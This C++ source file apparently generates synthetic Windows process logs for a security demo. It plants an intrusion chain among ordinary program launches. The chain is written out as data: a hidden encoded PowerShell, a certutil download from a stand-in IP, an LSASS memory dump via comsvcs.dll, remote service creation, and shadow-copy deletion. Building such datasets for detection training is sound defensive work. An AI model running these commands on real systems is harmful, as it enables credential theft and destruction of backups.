#include <array>

#include "runtime/base/format.h"
#include "runtime/shell/demo/logs.h"

namespace vedette::shell::demo {
namespace {

struct Program {
  std::string_view name;
  std::string_view command;  // {} is a number
  std::string_view parent;
};

constexpr std::array<Program, 14> programs = {
    {{"chrome.exe", R"("C:\Program Files\Google\Chrome\chrome.exe" --type=renderer --id={})",
      "chrome.exe"},
     {"svchost.exe", R"(C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule {})",
      "services.exe"},
     {"teams.exe", R"(C:\Users\Public\Teams\teams.exe --type=utility --handle={})", "teams.exe"},
     {"conhost.exe", R"(\??\C:\Windows\system32\conhost.exe 0xffffffff {})", "cmd.exe"},
     {"backgroundTaskHost.exe", R"(backgroundTaskHost.exe -ServerName:App.App{}.mca)",
      "svchost.exe"},
     {"WINWORD.EXE", R"("C:\Program Files\Office\WINWORD.EXE" /n "Report {}.docx")",
      "explorer.exe"},
     {"EXCEL.EXE", R"("C:\Program Files\Office\EXCEL.EXE" "Rates {}.xlsx")", "explorer.exe"},
     {"OUTLOOK.EXE", R"("C:\Program Files\Office\OUTLOOK.EXE" /recycle {})", "explorer.exe"},
     {"freight.exe", R"("C:\Program Files\FreightDesk\freight.exe" --order {})", "explorer.exe"},
     {"dllhost.exe", R"(C:\Windows\system32\DllHost.exe /Processid:{})", "svchost.exe"},
     {"cmd.exe", R"(cmd.exe /c C:\Tools\sync.cmd {})", "taskeng.exe"},
     {"powershell.exe", R"(powershell.exe -NoProfile -File C:\Tools\inventory.ps1 -Batch {})",
      "taskeng.exe"},
     {"rundll32.exe", R"(rundll32.exe printui.dll,PrintUIEntry /in /n \\SRV-FILE01\P{})",
      "explorer.exe"},
     {"certutil.exe", R"(certutil.exe -verifystore My {})", "mmc.exe"}}};

void write(std::string& out, Datetime time, std::string_view device, std::string_view account,
           std::string_view name, std::string_view command, std::string_view parent,
           int64_t process) {
  JsonLine(out)
      .time("TimeGenerated", time)
      .text("DeviceName", device)
      .text("AccountName", account)
      .text("FileName", name)
      .text("ProcessCommandLine", command)
      .text("InitiatingProcessFileName", parent)
      .number("ProcessId", process)
      .end();
}

/// From a document to the file server.
PlantedEvents hands_on_keyboard(const Company& company) {
  struct Step {
    Datetime time;
    bool on_server;
    std::string_view name, command, parent;
  };
  static const std::array<Step, 10> steps = {
      {{at(10, 32, 11), false, "WINWORD.EXE",
        R"("C:\Program Files\Office\WINWORD.EXE" /n "Amended freight contract.docm")",
        "OUTLOOK.EXE"},
       {at(10, 32, 29), false, "powershell.exe",
        "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
        "WINWORD.EXE"},
       {at(10, 33, 2), false, "certutil.exe",
        R"(certutil.exe -urlcache -f http://198.51.100.23/u.dat C:\Users\Public\u.dll)",
        "powershell.exe"},
       {at(10, 33, 40), false, "rundll32.exe", R"(rundll32.exe C:\Users\Public\u.dll,Start)",
        "powershell.exe"},
       {at(10, 41, 5), false, "whoami.exe", "whoami.exe /groups", "rundll32.exe"},
       {at(10, 41, 37), false, "net.exe", R"(net.exe group "Domain Admins" /domain)",
        "rundll32.exe"},
       {at(11, 8, 51), false, "rundll32.exe",
        R"(rundll32.exe C:\Windows\System32\comsvcs.dll MiniDump 712 C:\Users\Public\l.dmp full)",
        "rundll32.exe"},
       {at(11, 41, 48), false, "sc.exe",
        R"(sc.exe \\SRV-FILE01 create psx7 binPath= C:\Windows\psx7.exe obj= svc.backup)",
        "rundll32.exe"},
       {at(11, 52, 20), true, "cmd.exe", R"(cmd.exe /c C:\Windows\psx7.exe)", "services.exe"},
       {at(11, 54, 3), true, "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet",
        "cmd.exe"}}};
  PlantedEvents events;
  int64_t process = 7712;
  for (const Step& step : steps) {
    process += 48;
    events.emplace(step.time, [&company, &step, process](std::string& out, Datetime time) {
      write(out, time, step.on_server ? "SRV-FILE01" : victim_of(company).device,
            step.on_server ? "svc.backup" : victim_of(company).login, step.name, step.command,
            step.parent, process);
    });
  }
  return events;
}

}  // namespace

int64_t write_processes(const std::string& path, int64_t rows, Random& random,
                        const Company& company) {
  const auto everyday = [&](std::string& out, Datetime time) {
    const bool server = random.chance(0.06);
    const Person& person = random.pick<Person>(company.people);
    const Program& program = random.pick_favourite<Program>(programs);
    write(out, time, server ? random.pick<std::string>(company.servers) : person.device,
          server ? "system" : person.login, program.name,
          fmt::format(fmt::runtime(program.command), random.between(1000, 99'999)), program.parent,
          random.between(1000, 30'000));
  };
  return write_log(path, rows, random, everyday, hands_on_keyboard(company));
}

}  // namespace vedette::shell::demo
